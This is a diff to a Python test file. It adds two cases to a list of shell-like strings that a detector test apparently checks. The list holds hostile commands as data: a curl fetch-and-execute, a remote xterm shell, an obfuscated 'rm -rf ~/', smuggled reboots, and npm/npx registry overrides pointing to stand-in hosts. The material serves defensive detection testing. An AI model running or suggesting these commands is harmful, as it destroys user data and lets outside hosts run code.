@@ -121,6 +121,7 @@ def test_shell_like_text_agrees(text: str) -> None:
     "yes | split -b 1 - p", "echo '\\! reboot' | mysql", "printf '!reboot' | ed", "xterm -display h:1 -e sh",
     "bash -c '. /dev/stdin' < <(curl x)", "echo reboot > Makefile", "tee justfile <<< ' reboot'", "make CC=reboot",
     "echo 'x @ http://203.0.113.9/x' > requirements.txt", "npm t --script-shell=x", "npm i --registry=http://h/",
+    "a=(-rf ~/); rm \"${a[@]}\"", "npx --registry=http://h/ x",
 ])
 def test_known_shapes_agree(text: str) -> None:
     assert_same(text)
